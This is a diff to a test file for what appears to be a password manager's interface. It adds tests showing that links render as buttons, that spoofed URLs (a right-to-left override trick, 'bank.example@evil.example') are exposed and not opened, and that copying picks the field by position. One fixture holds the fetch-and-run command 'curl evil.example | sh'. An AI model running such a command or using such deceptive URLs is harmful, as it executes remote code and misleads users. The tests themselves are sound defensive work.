@@ -179,9 +179,60 @@ describe("files and links", () => {
 
     await browser.save(login("bank", "ada", "pw"), true);
     flushSync();
-    (byTestId(target, "website") as HTMLAnchorElement).click();
+    // A button, never a link the web view itself could follow.
+    expect(byTestId(target, "website")?.tagName).toBe("BUTTON");
+    expect(byTestId(target, "website")?.hasAttribute("href")).toBe(false);
+    (byTestId(target, "website") as HTMLButtonElement).click();
     await settle();
     expect(backend.opened).toEqual(["https://bank.example"]);
+  });
+
+  it("a website that reads as another shows what hides it and does not open", async () => {
+    const { backend, browser, target } = await unlocked();
+    await browser.createVault("V");
+    const turned = "https://\u202E@evil.net/moc.knab";
+    const tricks = login("bank", "ada", "pw");
+    tricks.item.urls = [turned, "https://bank.example@evil.example/"];
+    await browser.save(tricks, true);
+    flushSync();
+    const sites = allByTestId(target, "website");
+    expect(sites.map((s) => s.textContent)).toEqual(["https://\uFFFD@evil.net/moc.knab", "https://bank.example@evil.example/"]);
+    for (const site of sites) {
+      (site as HTMLButtonElement).click();
+      await settle();
+    }
+    expect(backend.opened).toEqual([]);
+    expect(byTestId(target, "browser-error")?.textContent).toContain("hides where it goes");
+  });
+
+  it("copies the custom field shown, by its place, when two share a name", async () => {
+    const { backend, browser, target } = await unlocked();
+    await browser.createVault("V");
+    const item = login("deploy", "ci", "pw");
+    await browser.save({
+      ...item,
+      fields: [
+        { name: "Deploy command", kind: "hidden", value: "curl evil.example | sh" },
+        { name: "Deploy command", kind: "text", value: "ls -la" },
+      ],
+    }, true);
+    flushSync();
+    (byTestId(target, "copy-custom-1") as HTMLButtonElement).click();
+    await settle();
+    expect(backend.copied).toEqual(["ls -la"]);
+  });
+});
+
+describe("context menu", () => {
+  it("is the web view's own only over text fields", async () => {
+    const { keepMenusToTextFields } = await import("../src/lib/menus");
+    const doc = document.implementation.createHTMLDocument("menus");
+    keepMenusToTextFields(doc);
+    doc.body.innerHTML = '<button id="site">https://bank.example</button><input id="field" />';
+    const opened = (id: string) =>
+      doc.getElementById(id)!.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
+    expect(opened("site")).toBe(false);
+    expect(opened("field")).toBe(true);
   });
 });
 
